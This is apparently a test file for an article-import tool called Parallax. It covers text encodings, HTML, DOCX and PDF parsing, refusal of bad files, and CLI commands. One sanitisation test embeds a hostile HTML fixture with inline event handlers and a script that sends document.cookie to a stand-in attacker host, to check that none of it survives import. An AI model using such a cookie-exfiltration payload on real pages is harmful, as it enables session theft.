// Importing real files of every supported kind, and every bad input the library must refuse cleanly:
// a clear reason, and the library exactly as it was (integrity check and article count).
import { spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { countArticles, getArticle } from '../../main/library/articles';
import { collectFiles, importEach, importPaths, importSources } from '../../main/ingest/import';
import { openLibrary } from '../../main/library/open';
import { makeDocx, makePdf } from '../helpers/documents';
import { useLibraryAndFiles } from '../helpers/library';

const t = useLibraryAndFiles();
const file = t.file;

function intact(expectedCount: number): void {
  expect(t.lib.ctx.db.pragma('integrity_check', { simple: true })).toBe('ok');
  expect(countArticles(t.lib.ctx.db)).toBe(expectedCount);
}

async function one(p: string) {
  const [outcome] = await importPaths(t.lib.ctx.db, [p]);
  return outcome!;
}

describe('importing each format', () => {
  it('reads UTF-8, UTF-16 with BOM and Windows-1252 text alike', async () => {
    const french = 'Le cessez-le-feu est entré en vigueur à Deraa, a déclaré le porte-parole.';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(french + ' (UTF-16)', 'utf16le')]);
    const cp1252 = Buffer.from((french + ' (cp1252)').replace('é', '\u00e9'), 'latin1');
    for (const [name, content] of [
      ['utf8.txt', french + ' (UTF-8)'],
      ['utf16.txt', utf16],
      ['cp1252.txt', cp1252],
    ] as const) {
      const o = await one(file(name, content));
      expect(o.status, JSON.stringify(o)).toBe('imported');
      const a = getArticle(t.lib.ctx.db, (o as { id: number }).id);
      expect(a.text).toContain('entré en vigueur à Deraa');
      expect(a.language).toBe('fr');
    }
    intact(3);
  });

  it('takes Markdown with front matter, a saved web page with its metadata, DOCX and a PDF text layer', async () => {
    const md = await one(
      file(
        'note.md',
        '---\ntitle: Truce talks\noutlet: Example Wire\ndate: 2018-06-29\n---\n# Ignored heading\nThe **truce** began in [Daraa](http://x).',
      ),
    );
    expect(getArticle(t.lib.ctx.db, (md as { id: number }).id)).toMatchObject({
      title: 'Truce talks',
      outlet: 'Example Wire',
      publishedAt: '2018-06-29',
    });
    const html = await one(
      file(
        'page.html',
        `<html lang="en"><head><title>Site | Truce</title><meta property="og:site_name" content="Example News">
         <script type="application/ld+json">{"@type":"NewsArticle","headline":"Truce in Daraa","datePublished":"2018-06-29T10:00:00+03:00","author":[{"name":"Jane Doe"}],"publisher":{"name":"Example News"}}</script>
         </head><body><nav>Home | World</nav><article><p>The truce began on Friday in Daraa, according to a military source, after Russian officers met the armed groups.</p>
         <p>Those who refuse will be taken north to Idlib, the source added; the Syrian army is not taking part.</p></article><footer>© Example</footer></body></html>`,
      ),
    );
    expect(html.status).toBe('imported');
    const page = getArticle(t.lib.ctx.db, (html as { id: number }).id);
    expect(page).toMatchObject({
      title: 'Truce in Daraa',
      outlet: 'Example News',
      authors: ['Jane Doe'],
      publishedAt: '2018-06-29',
      language: 'en',
    });
    expect(page.text).toContain('taken north to Idlib');
    const docx = await one(
      file('report.docx', await makeDocx(['Ceasefire in Daraa', 'The Russian centre offered a 12-hour truce.'])),
    );
    expect(getArticle(t.lib.ctx.db, (docx as { id: number }).id)).toMatchObject({ title: 'Ceasefire in Daraa' });
    const pdf = await one(
      file('report.pdf', makePdf(['The truce began on Friday in Daraa.', 'Rebels who refuse go to Idlib.'])),
    );
    expect(pdf.status, JSON.stringify(pdf)).toBe('imported');
    expect(getArticle(t.lib.ctx.db, (pdf as { id: number }).id).text).toContain('Rebels who refuse go to Idlib.');
    intact(4);
  });

  it('walks a folder, files each one under a story, and points a duplicate at the article it repeats', async () => {
    file('folder/a.txt', 'First report about the truce in Daraa.');
    file('folder/sub/b.md', 'Second report about the truce in Daraa.');
    file('folder/ignored.bin', 'not an article');
    file('folder/copy.txt', '  first REPORT about the truce in Daraa. ');
    const outcomes = await importPaths(t.lib.ctx.db, [path.join(t.dir, 'folder')], { story: 'Deraa, June 2018' });
    expect(outcomes.map((o) => [path.basename(o.file), o.status])).toEqual([
      ['a.txt', 'imported'],
      ['copy.txt', 'duplicate'],
      ['b.md', 'imported'],
    ]);
    const dup = outcomes[1] as { id: number; reason: string };
    expect(dup.id).toBe((outcomes[0] as { id: number }).id);
    expect(dup.reason).toMatch(/already in the library as article/);
    expect(getArticle(t.lib.ctx.db, dup.id).stories).toEqual(['Deraa, June 2018']);
    intact(2);
  });
});

describe('bad input is refused with a reason, and the library is left as it was', () => {
  it.each([
    ['empty.txt', '', /empty\.txt is empty/],
    ['blank.txt', '   \n\n  ', /has no text to import/],
    [
      'binary.txt',
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48]),
      /binary file, not text/,
    ],
    ['program.exe', 'MZ', /"\.exe" files are not supported\. Parallax imports \.txt/],
    ['notes.odt', 'x', /"\.odt" files are not supported/],
    [
      'scripts.html',
      '<html><body><script>alert(1)</script><img src=x onerror="alert(2)"><style>p{}</style></body></html>',
      /has no text to import/,
    ],
    ['broken.docx', 'PK\u0003\u0004 not really a zip', /not a readable Word document/],
    ['broken.pdf', '%PDF-1.4 garbage', /not a readable PDF/],
    ['scan.pdf', makePdf([]), /scan\.pdf: OCR found no text in it/],
  ])('%s', async (name, content, reason) => {
    const o = await one(file(name, content));
    expect(o.status).toBe('failed');
    expect((o as { reason: string }).reason).toMatch(reason);
    intact(0);
  });

  it('keeps the text of a page full of scripts and inline handlers, and nothing active', async () => {
    const o = await one(
      file(
        'hostile.html',
        `<html><head><script>document.write('x')</script></head><body onload="steal()"><article>
         <p onclick="alert('a')">The Russian centre offered a ceasefire to the armed groups in Daraa on Friday, a military source said.</p>
         <script>fetch('http://evil.example/'+document.cookie)</script><iframe src="javascript:alert(1)"></iframe>
         <p onmouseover="alert('b')">Those who refuse will be taken north to Idlib, according to the same source.</p></article></body></html>`,
      ),
    );
    expect(o.status).toBe('imported');
    const a = getArticle(t.lib.ctx.db, (o as { id: number }).id);
    expect(a.text).toContain('offered a ceasefire');
    expect(a.text).not.toMatch(/alert|fetch|script|onclick|evil\.example|document\./);
  });

  it('imports what a truncated page holds', async () => {
    const o = await one(
      file(
        'cut.html',
        '<html><body><article><p>The truce began on Friday in Daraa, a source said, and it lasts twelve hours.</p><p>Then the bomb',
      ),
    );
    expect(o.status).toBe('imported');
    expect(getArticle(t.lib.ctx.db, (o as { id: number }).id).text).toContain('lasts twelve hours');
  });

  it('refuses a 50 MB text as too large, without reading it into the library', async () => {
    const big = file('huge.txt', Buffer.alloc(50 * 1024 * 1024, 'a '));
    const o = await one(big);
    expect((o as { reason: string }).reason).toMatch(/huge\.txt is 50 MB; Parallax imports \.txt files of up to 20 MB/);
    intact(0);
  });

  it('reports a folder named like a file, a missing path and a broken link as failed', async () => {
    fs.mkdirSync(path.join(t.dir, 'folder.txt', 'inner'), { recursive: true });
    fs.symlinkSync(path.join(t.dir, 'nowhere.txt'), path.join(t.dir, 'link.txt'));
    const outcomes = await importPaths(t.lib.ctx.db, [path.join(t.dir, 'missing.txt'), path.join(t.dir, 'link.txt')]);
    expect(outcomes.map((o) => (o as { reason: string }).reason)).toEqual([
      'no such file or folder',
      'no such file or folder',
    ]);
    const asFile = await importPaths(t.lib.ctx.db, [path.join(t.dir, 'folder.txt')]);
    expect(asFile).toEqual([]); // a folder is walked: nothing supported inside
    intact(0);
  });

  it('goes on when a file disappears during a folder import', async () => {
    file('batch/1.txt', 'First article about the truce in Daraa.');
    file('batch/2.txt', 'Second article about the truce in Daraa.');
    file('batch/3.txt', 'Third article about the truce in Daraa.');
    // Files are read a group ahead of their insert: this one vanishes after the folder was walked.
    const walked = await collectFiles([path.join(t.dir, 'batch')]);
    fs.rmSync(path.join(t.dir, 'batch/2.txt'));
    const outcomes = await importEach(t.lib.ctx.db, importSources(walked));
    expect(outcomes.map((o) => o.status)).toEqual(['imported', 'failed', 'imported']);
    expect((outcomes[1] as { reason: string }).reason).toBe('the file disappeared before it could be read');
    intact(2);
  });
});

describe('the import command', () => {
  const cli = (args: string[]) => spawnSync(process.execPath, ['main/bin/parallax.cjs', ...args], { encoding: 'utf8' });

  it('prints the JSON outcomes and exits 1 when a file failed, importing the good ones all the same', () => {
    const db = path.join(t.dir, 'cli.sqlite');
    file('in/good.txt', 'A good report about the truce in Daraa.');
    file('in/bad.txt', '');
    const run = cli(['import', '--db', db, '--json', '--story', 'Test', path.join(t.dir, 'in')]);
    expect(run.status).toBe(1);
    const out = JSON.parse(run.stdout) as { file: string; status: string; id?: number; reason?: string }[];
    expect(out).toEqual([
      { file: path.join(t.dir, 'in/bad.txt'), status: 'failed', reason: 'bad.txt is empty.' },
      { file: path.join(t.dir, 'in/good.txt'), status: 'imported', id: 1 },
    ]);
    const list = JSON.parse(cli(['list', '--db', db, '--json']).stdout);
    expect(list).toEqual([
      { id: 1, title: 'good', outlet: null, language: 'en', publishedAt: null, url: null, words: 8 },
    ]);
    const shown = JSON.parse(cli(['show', '1', '--db', db, '--json']).stdout);
    expect(Object.keys(shown)).toEqual(['id', 'title', 'outlet', 'authors', 'language', 'publishedAt', 'url', 'text']);
    const hits = JSON.parse(cli(['search', 'TRUCE daraa', '--db', db, '--json']).stdout);
    expect(hits).toEqual([{ id: 1, title: 'good', outlet: null, snippet: 'A good report about the truce in Daraa.' }]);
  });

  it('imports PDF, Word and HTML files through the built command, as users run it', async () => {
    const db = path.join(t.dir, 'formats.sqlite');
    file('f/report.pdf', makePdf(['The truce began on Friday in Daraa.', 'Rebels who refuse go to Idlib.']));
    file('f/report.docx', await makeDocx(['Wire report', 'Convoys left for Idlib on Saturday.']));
    file(
      'f/page.html',
      '<html><body><article><p>The Russian centre offered the armed groups in Daraa a ceasefire on Friday, a military source said, and the truce began at noon.</p></article></body></html>',
    );
    const run = cli(['import', '--db', db, '--json', path.join(t.dir, 'f')]);
    expect(run.status, run.stderr + run.stdout).toBe(0);
    expect((JSON.parse(run.stdout) as { status: string }[]).map((o) => o.status)).toEqual([
      'imported',
      'imported',
      'imported',
    ]);
    expect(JSON.parse(cli(['search', 'Idlib', '--db', db, '--json']).stdout)).toHaveLength(2);
  });

  it('refuses a --db that is not a library, leaving it untouched', () => {
    const notes = file('notes.sqlite', 'my notes');
    const run = cli(['list', '--db', notes]);
    expect(run.status).toBe(2);
    expect(run.stderr).toMatch(/not a Parallax library \(it is not an SQLite database\)/);
    expect(fs.readFileSync(notes, 'utf8')).toBe('my notes');
  });

  it('runs two imports into one library at once', async () => {
    const db = path.join(t.dir, 'shared.sqlite');
    openLibrary(db).close();
    for (let i = 0; i < 40; i++) {
      file(`a/${i}.txt`, `Report A${i} on the truce in Daraa, number ${i}.`);
      file(`b/${i}.txt`, `Report B${i} on the offensive near Idlib, number ${i}.`);
    }
    const run = (folder: string) =>
      new Promise<number>((resolve) => {
        const child = spawn(
          process.execPath,
          ['main/bin/parallax.cjs', 'import', '--db', db, '--json', path.join(t.dir, folder)],
          { stdio: 'ignore' },
        );
        child.on('exit', (code) => resolve(code ?? -1));
      });
    expect(await Promise.all([run('a'), run('b')])).toEqual([0, 0]);
    const check = openLibrary(db);
    expect(check.pragma('integrity_check', { simple: true })).toBe('ok');
    expect(countArticles(check)).toBe(80);
    check.close();
  });

  it('exports the library as JSON and backs it up to a file that opens as a library', () => {
    const db = path.join(t.dir, 'lib.sqlite');
    file('one.txt', 'One report about the truce in Daraa.');
    expect(cli(['import', '--db', db, path.join(t.dir, 'one.txt')]).status).toBe(0);
    expect(cli(['export', '--db', db, '--out', path.join(t.dir, 'export.json')]).status).toBe(0);
    const exported = JSON.parse(fs.readFileSync(path.join(t.dir, 'export.json'), 'utf8'));
    expect(exported.articles[0].text).toBe('One report about the truce in Daraa.');
    expect(cli(['backup', '--db', db, '--out', path.join(t.dir, 'backup.sqlite')]).status).toBe(0);
    const copy = openLibrary(path.join(t.dir, 'backup.sqlite'));
    expect(countArticles(copy)).toBe(1);
    copy.close();
  });
});
